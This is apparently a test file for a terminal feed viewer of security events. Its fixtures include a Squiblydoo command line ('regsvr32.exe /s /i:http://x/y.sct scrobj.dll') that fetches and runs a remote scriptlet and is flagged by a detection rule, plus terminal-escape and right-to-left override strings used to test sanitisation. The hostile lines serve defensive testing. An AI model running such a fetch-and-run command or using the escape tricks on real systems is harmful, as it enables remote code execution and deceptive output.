import React from 'react';
import {render} from 'ink-testing-library';
import {describe, expect, it} from 'vitest';
import {FeedList} from '../../source/components/feed-list.js';
import {feedRowLine} from '../../source/components/feed-row.js';
import {parseQuery} from '../../source/core/view/query.js';
import {FilteredView} from '../../source/core/view/feed-view.js';
import {defaultTheme} from '../../source/theme/theme.js';
import {makeEvent} from '../helpers/events.js';

const events = [
	makeEvent({
		seq: 1,
		host: 'WS01',
		user: 'alice',
		summary: 'cmd.exe /c whoami',
		time: Date.UTC(2026, 10, 27, 10, 0, 0, 5),
	}),
	makeEvent({seq: 2, category: 'DNS', host: 'WS02', user: 'bob', summary: 'chrome.exe resolved example.com'}),
	makeEvent({
		seq: 3,
		host: 'WS01',
		user: 'alice',
		summary: 'regsvr32.exe /s /i:http://x/y.sct scrobj.dll',
		hits: [
			{
				id: 'r1',
				title: 'Squiblydoo',
				level: 'high',
				tags: [],
				fields: [{field: 'CommandLine', value: 'regsvr32.exe /s /i:http://x/y.sct scrobj.dll', spans: [[0, 12]]}],
			},
		],
	}),
];

describe('feed', () => {
	it('renders one row per event: time, badge, host, summary, the rule title on hits', () => {
		const view = new FilteredView({warm: false}).update(events, {hiddenCategories: new Set(), hitsOnly: false});
		const app = render(
			<FeedList
				visible={view.visible}
				highlights={view.highlights}
				top={0}
				selected={2}
				height={5}
				width={80}
				emptyText="none"
				searching={false}
			/>,
		);
		const lines = app.lastFrame()!.split('\n');
		expect(lines).toHaveLength(5);
		expect(lines.slice(3).join('').trim()).toBe('');
		expect(lines[0]).toMatch(/\d\d:\d\d:\d\d\.005 proc start WS01 +cmd\.exe \/c whoami/);
		expect(lines[1]).toContain('dns');
		expect(lines[2]).toMatch(/^›!.*\[Squiblydoo\] regsvr32\.exe/);
		for (const l of lines) expect(l.length).toBeLessThanOrEqual(80);
	});

	it('a search narrows the rows and marks the matched characters', () => {
		const view = new FilteredView({warm: false}).update(events, {
			hiddenCategories: new Set(),
			hitsOnly: false,
			query: parseQuery('whoami'),
		});
		expect(view.visible.map(e => e.seq)).toEqual([1]);
		const line = feedRowLine(
			{event: view.visible[0]!, selected: false, width: 80, highlights: view.highlights.get(1)},
			defaultTheme,
		);
		const matched = line.filter(s => s.style === defaultTheme.match).map(s => s.text);
		expect(matched).toEqual(['whoami']);
	});

	it('the text a rule matched is marked in rows with hits', () => {
		const view = new FilteredView({warm: false}).update(events, {hiddenCategories: new Set(), hitsOnly: true});
		const line = feedRowLine(
			{event: view.visible[0]!, selected: true, width: 100, highlights: view.highlights.get(3)},
			defaultTheme,
		);
		expect(line.filter(s => s.style === defaultTheme.hitMatch).map(s => s.text)).toEqual(['regsvr32.exe']);
	});

	it('hostile text reaches the frame as visible escapes', () => {
		const evil = makeEvent({seq: 9, host: 'H\u001b[2J', summary: 'a\u001b]0;owned\u0007b \u202egnp.exe'});
		const view = new FilteredView({warm: false}).update([evil], {hiddenCategories: new Set(), hitsOnly: false});
		const app = render(
			<FeedList
				visible={view.visible}
				highlights={view.highlights}
				top={0}
				selected={0}
				height={3}
				width={100}
				emptyText=""
				searching={false}
			/>,
		);
		const frame = app.lastFrame()!;
		expect(frame).toContain('a\\x1b]0;owned\\x07b \\u202egnp.exe');
		expect(frame).toContain('H\\x1b[2J');
		expect(frame).not.toMatch(/[\u001b\u0007\u202e]/);
	});

	it('says why it is empty', () => {
		const app = render(
			<FeedList
				visible={[]}
				highlights={{get: () => undefined}}
				top={0}
				selected={-1}
				height={3}
				width={80}
				emptyText="waiting for events…"
				searching={false}
			/>,
		);
		expect(app.lastFrame()).toContain('waiting for events…');
	});
});
